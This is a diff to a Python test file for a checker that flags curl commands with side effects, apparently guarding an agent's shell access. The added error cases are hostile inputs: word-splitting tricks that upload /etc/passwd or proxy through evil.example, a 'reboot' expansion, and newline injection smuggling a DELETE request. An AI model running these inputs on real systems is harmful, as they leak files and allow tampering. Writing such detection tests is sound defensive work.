@@ -52,6 +52,8 @@ def effects_of(text: str) -> tuple[SideEffect, ...]:
         "curl -g 'https://ml.example.com/v1?x=[1-3]'",
         f"curl {URL} -H 'Host: ml.example.com' --pinnedpubkey sha256//abc --alt-svc ''",
         f"curl {URL} -H Accept:*/* --no-insecure",
+        "curl https://$HOST/v2/$X?c=$C -u $USER:$PASS -H X-Key:$KEY -X $M -d $BODY -H $AUTH -d a=${A:-b} -A a$?",
+        f"curl {URL} -H 'X: a' -A '$9' -A \"$9\" -d $'a\\nb' -d 'a\nb'",
         f"""curl {URL} -d 'Hi! `x` $(y) {{a,b}} *' -d "Hi! there!" """,
     ],
 )
@@ -59,6 +61,8 @@ def test_one_request_has_no_side_effects(text: str):
     assert effects_of(text) == ()
 
 
+SPLIT = "becomes another request if an unquoted variable is empty or has a blank: "
+ENDS_LINE = "ends a line of the request within a value"
 ERRORS = [
     (f"{PLAIN} | «sh»", "runs another command: 'sh'"),
     (f"{PLAIN} || «wget -qO- https://pkg.example.net/i»", "runs another command: 'wget -qO- https://pkg.example.net/i'"),
@@ -162,6 +166,23 @@ ERRORS = [
     (f"{PLAIN} «http://second»", "sends a second request to 'http://second'"),
     (f"curl «'{URL}/{{a,b}}'»", "sends several requests"),
     (f"curl «'{URL}/[1-100]'»", "sends several requests"),
+    (f"curl -g --no-globoff «'{URL}/{{a,b}}'»", "sends several requests"),
+    (f'curl {URL} -H "X: «${{PROMPT_COMMAND:=reboot}}»"', "contains an expansion: '${PROMPT_COMMAND:=reboot}'"),
+    (f"curl {URL} -H «${{A=b}}»", "contains an expansion: '${A=b}'"),
+    (f"curl {URL} -A «$9» -A -d@/etc/passwd", f"{SPLIT}'--data @/etc/passwd'"),
+    (f"curl {URL} -A «${{X:-}}» -A -xhttp://evil.example", f"{SPLIT}'--proxy http://evil.example'"),
+    (f"curl {URL} -A «$@» -A -k", f"{SPLIT}'--insecure'"),
+    (f"curl {URL} -A «$!» -A -k", f"{SPLIT}'--insecure'"),
+    (f"curl {URL} -A «$9» -A http://evil.example", f"{SPLIT}'http://evil.example'"),
+    (f"curl {URL} -A «a$IFS-o/tmp/x»", f"{SPLIT}'--output /tmp/x'"),
+    (f"curl {URL} -A «a${{IFS:-x}}-o/tmp/x»", f"{SPLIT}'--output /tmp/x'"),
+    (f"curl {URL} -A «a$PS4''http://evil.example»", f"{SPLIT}'http://evil.example'"),
+    (f"curl «{URL}/$IFS'-o'/tmp/x»", f"{SPLIT}'--output /tmp/x'"),
+    (f"curl {URL} «-H» $'X: a\\r\\n\\r\\nDELETE /orders HTTP/1.1'", f"{ENDS_LINE} (--header)"),
+    (f"curl {URL} «-H» 'X: a\nY: b'", f"{ENDS_LINE} (--header)"),
+    (f"curl {URL} «-A» $'a\\nY: b'", f"{ENDS_LINE} (--user-agent)"),
+    (f"curl {URL} «-b» $'a=b\\x0aY: b'", f"{ENDS_LINE} (--cookie)"),
+    (f"curl {URL} «-X» 'GET /other HTTP/1.1'", f"{ENDS_LINE} (--request)"),
     ("curl «file:///etc/passwd»", "uses the protocol file"),
     ("curl «gopher://h/x»", "uses the protocol gopher"),
     ("curl «ftp.example.com/x»", "uses the protocol ftp"),
